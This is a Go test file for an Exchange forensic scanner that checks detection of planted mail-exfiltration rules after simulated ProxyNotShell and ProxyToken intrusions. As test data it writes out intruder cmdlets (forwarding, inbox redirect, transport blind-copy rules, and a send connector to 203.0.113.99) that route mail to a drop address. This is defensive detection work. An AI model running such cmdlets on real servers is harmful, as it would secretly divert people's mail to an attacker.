package main

import (
	"fmt"
	"slices"
	"testing"

	"github.com/athar-forensics/athar"
	"github.com/athar-forensics/athar/internal/forge"
)

// Mail that leaves by what an intruder planted, in every way: the mailboxes, their
// messages and bytes are those that left after it, and what the other side refused
// is none of them.
func TestStoriesMailLeaves(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name   string
		way    forge.Way
		plant  []string // the cmdlet
		shared bool     // of several mailboxes
	}{
		{"a mailbox's forwarding", forge.ByForwarding, []string{"Set-Mailbox", "Identity", "", "ForwardingSmtpAddress", "smtp:" + drop}, false},
		{"an inbox rule", forge.ByInboxRule, []string{"New-InboxRule", "Mailbox", "", "Name", ".", "RedirectTo", drop}, false},
		{"a transport rule", forge.ByTransportRule, []string{"New-TransportRule", "Name", "all", "BlindCopyTo", drop}, true},
		{"a connector", forge.ByConnector, []string{"New-SendConnector", "Name", "Outbound 2", "SmartHosts", "203.0.113.99", "AddressSpaces", "SMTP:*;1"}, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			for seed := range seeds(t) {
				d, s := newDraw(t, &tale{name: c.name, build: "15.1.2507.13", from: on(2022, 10, 18, 6, 0, 0)}, 12000+seed)
				victims := d.people[1:2]
				if c.shared {
					victims = d.people[1:4]
				}
				cmdlet := slices.Clone(c.plant)
				for i, word := range cmdlet {
					if word == "" {
						cmdlet[i] = victims[0]
					}
				}
				to := drop
				if c.way == forge.ByConnector {
					to = "Outbound 2"
				}
				d.host.MailFlow(d.from, d.from+3*athar.Day, athar.Hour)
				sentOn := forge.SentOn{From: d.at + athar.Hour, Until: d.from + 3*athar.Day, Way: c.way, To: to, Mailboxes: victims, Messages: 20 + d.IntN(80), Refused: 1 + d.IntN(5)}
				if c.way == forge.ByConnector {
					sentOn.Refused = 0
				}

				// Set by an administrator, the same is a lead and nothing left.
				quietly, calm := newDraw(t, &tale{name: c.name, build: "15.1.2507.13", from: on(2022, 10, 18, 6, 0, 0)}, 12000+seed)
				quietly.host.Cmdlets(quietly.at, admin, cmdlet)
				quietly.host.SentOn(sentOn)
				v := scan(t, calm.pack())
				nothingFrom(t, v.only(), athar.Attempted)
				if len(v.only().Mailboxes) != 0 {
					t.Errorf("seed %d: an administrator's rule takes %+v", seed, v.only().Mailboxes)
				}

				end := d.host.ProxyNotShell(d.signedIn(200))
				d.host.Cmdlets(end+athar.Minute, d.people[0], cmdlet)
				taken := d.host.SentOn(sentOn)
				v = scan(t, s.pack())
				f := oneOf(t, v.only(), athar.MailSentOn)
				if f.Stage != athar.Exfiltrated || f.Campaign != "proxynotshell" || f.Evidence["messages"] != fmt.Sprint(sentOn.Messages) {
					t.Errorf("seed %d: %v %s %v", seed, f.Stage, f.Campaign, f.Evidence)
				}
				wantTheft(t, v, taken)
				for _, m := range v.only().Mailboxes {
					if m.Certainty == "evidenced" && (m.Items == nil || *m.Items < int64(sentOn.Messages/len(victims))) {
						t.Errorf("seed %d: items of %s: %v", seed, m.Mailbox, m.Items)
					}
				}
				wantAnswers(t, v.only(), "yes yes yes yes ?")
			}
		})
	}
}

// ProxyToken's rule, and the mail that it took.
func TestStoryProxyTokenMail(t *testing.T) {
	t.Parallel()
	for seed := range seeds(t) {
		d, s := newDraw(t, &tale{name: "token", build: mar, from: on(2021, 8, 17, 6, 0, 0)}, 12500+seed)
		end := d.host.ProxyToken(forge.ProxyToken{At: d.at, From: d.who, Victim: d.people[0], Drop: drop})
		taken := d.host.SentOn(forge.SentOn{From: end + athar.Minute, Until: d.from + 3*athar.Day, Way: forge.ByInboxRule, To: drop, Mailboxes: d.people[:1], Messages: 30})
		v := scan(t, s.pack())
		if got := incident(t, v.only(), "proxytoken").Stage; got != athar.Exfiltrated {
			t.Errorf("seed %d: proxytoken is at %v\n%s", seed, got, told(v.only()))
		}
		wantTheft(t, v, taken)
	}
}

// The rule is set anew by an intruder's account where mail went for weeks: a
// forwarding of long standing, and nobody can say that it was taken.
func TestStoryLongStandingForwarding(t *testing.T) {
	t.Parallel()
	for seed := range seeds(t) {
		d, s := newDraw(t, &tale{name: "standing", build: "15.1.2507.13", from: on(2022, 10, 18, 6, 0, 0)}, 12600+seed)
		to := d.word(6) + "@example.net"
		d.host.SentOn(forge.SentOn{From: d.from, Until: d.from + 3*athar.Day, Way: forge.ByForwarding, To: to, Mailboxes: d.people[:1], Messages: 60})
		end := d.host.ProxyNotShell(d.signedIn(200))
		d.host.Cmdlets(end+athar.Minute, d.people[0], []string{"Set-Mailbox", "Identity", d.people[0], "ForwardingSmtpAddress", "smtp:" + to})
		if n := len(byRule(scan(t, s.pack()).only(), athar.MailSentOn)); n != 0 {
			t.Errorf("seed %d: %d findings", seed, n)
		}
	}
}

// What was planted on one server takes the mail of another, which handed it to the
// first before it left: each message is counted once.
func TestStoryMailLeavesByAnotherServer(t *testing.T) {
	t.Parallel()
	for seed := range seeds(t) {
		d, s := newDraw(t, &tale{name: "two", build: "15.1.2507.13", from: on(2022, 10, 18, 6, 0, 0)}, 12700+seed)
		home := s.server("MBX9", "15.1.2507.13")
		quiet(home, d.from+20*athar.Minute, d.from+3*athar.Day)
		end := d.host.ProxyNotShell(d.signedIn(200))
		d.host.Cmdlets(end+athar.Minute, d.people[0], []string{"Set-Mailbox", "Identity", d.people[1], "ForwardingSmtpAddress", "smtp:" + drop})
		taken := home.SentOn(forge.SentOn{From: end + athar.Hour, Until: d.from + 3*athar.Day, Way: forge.ByForwarding, To: drop, Mailboxes: d.people[1:2], Messages: 40})
		home.HandTo(d.host)
		v := scan(t, s.pack())
		wantTheft(t, v, taken)
	}
}
